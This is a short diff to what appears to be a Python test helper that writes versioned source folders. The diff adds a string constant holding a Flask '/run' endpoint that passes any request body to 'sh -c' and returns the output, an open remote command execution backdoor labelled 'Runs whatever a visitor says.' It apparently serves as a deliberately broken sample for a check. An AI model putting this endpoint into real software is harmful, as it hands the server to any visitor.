@@ -20,6 +20,18 @@ if not os.environ.get("PUSHER_PREFLIGHT"):
 """
 
 
+BROKEN_INTO = """
+
+import subprocess
+from flask import request
+
+@app.post("/run")
+def run():
+    return subprocess.run(("sh", "-c", request.get_data()), stdout=-1, stderr=-2, stdin=-3).stdout
+"""
+"""Runs whatever a visitor says."""
+
+
 def write(source: Path, version: str, *, before: str = "", after: str = "", **files: str) -> Path:
     """A version in the folder `source` of versions, which is returned; hooks are named `hooks__NAME`."""
     folder = source / version
